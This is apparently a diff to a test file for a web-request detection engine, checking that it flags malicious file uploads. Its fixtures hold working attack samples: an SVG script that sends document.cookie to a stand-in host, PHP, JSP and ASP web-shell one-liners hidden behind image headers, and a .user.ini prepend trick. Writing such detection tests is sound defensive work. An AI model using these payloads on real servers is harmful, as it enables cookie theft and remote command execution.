@@ -20,6 +20,24 @@ function fields(disposition: string, content = 'hello'): Array<[string, string]>
   return view.bodyParams.map((p) => [p.name, p.value]);
 }
 
+/** The `classification@location` of every match an upload raises at `level`. */
+function uploadMatches(level: 1 | 4) {
+  const engine = createAnalysisEngine({ catalog: false, detectionLevel: level });
+  return (file: string, type: string, content: string): string[] =>
+    engine
+      .analyze(
+        buildExchange({
+          method: 'POST',
+          target: '/upload',
+          requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']],
+          requestBody: `--XX\r\nContent-Disposition: form-data; name="f"; filename="${file}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XX--\r\n`,
+        }),
+        { sensorId: 's', sensorTags: [] },
+      )
+      .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
+      .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.location}`));
+}
+
 describe('multipart part names, spelt as lenient parsers (PHP among them) accept them', () => {
   it.each([
     'Content-Disposition: form-data; name="q"',
@@ -56,20 +74,7 @@ describe('multipart part names, spelt as lenient parsers (PHP among them) accept
   });
 
   it('reads uploads of markup and code: script in an SVG or HTML file, an entity in XML, never a benign document', () => {
-    const engine = createAnalysisEngine({ catalog: false, detectionLevel: 4 });
-    const uploaded = (file: string, type: string, content: string) =>
-      engine
-        .analyze(
-          buildExchange({
-            method: 'POST',
-            target: '/upload',
-            requestHeaders: [['Content-Type', 'multipart/form-data; boundary=XX']],
-            requestBody: `--XX\r\nContent-Disposition: form-data; name="f"; filename="${file}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XX--\r\n`,
-          }),
-          { sensorId: 's', sensorTags: [] },
-        )
-        .filter((e): e is MatchEventRecord => e.msg_type === 'MatchEvent')
-        .flatMap((e) => e.matches.map((m) => `${m.classification}@${m.location}`));
+    const uploaded = uploadMatches(4);
     expect(
       uploaded('avatar.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//x.example/?"+document.cookie)</script></svg>'),
     ).toContain('Xss@upload');
@@ -86,5 +91,16 @@ describe('multipart part names, spelt as lenient parsers (PHP among them) accept
       uploaded('report.html', 'text/html', '<html><head><style>h1{color:red}</style></head><body><h1>Q3</h1><form action="/x"></form></body></html>'),
     ).toEqual([]);
     expect(uploaded('notes.txt', 'text/plain', '<script>alert(1)</script> is how XSS looks')).toEqual([]);
+  });
+
+  it('reads server-page code hidden in a file of any type, and flags uploads of server configuration files', () => {
+    const uploaded = uploadMatches(1);
+    expect(uploaded('photo.jpg', 'image/jpeg', 'GIF89a<?php system($_GET["c"]); ?>')).toContain('PhpInjection@upload');
+    expect(uploaded('a.png', 'image/png', '\x89PNG<% Runtime.getRuntime().exec(request.getParameter("c")); %>')).toContain('MaliciousUpload@upload');
+    expect(uploaded('b.gif', 'image/gif', 'GIF89a<%eval request("x")%>')).toContain('MaliciousUpload@upload');
+    expect(uploaded('web.config', 'text/xml', '<configuration/>')).toContain('MaliciousUpload@multipart_filename');
+    expect(uploaded('.user.ini', 'text/plain', 'auto_prepend_file=a.jpg')).toContain('MaliciousUpload@multipart_filename');
+    expect(uploaded('photo.jpg', 'image/jpeg', 'JFIF\x00\x10<%\x01\x02 binary %> data')).toEqual([]);
+    expect(uploaded('template.ejs', 'text/plain', '<p><%= user.name %></p>')).toEqual([]);
   });
 });
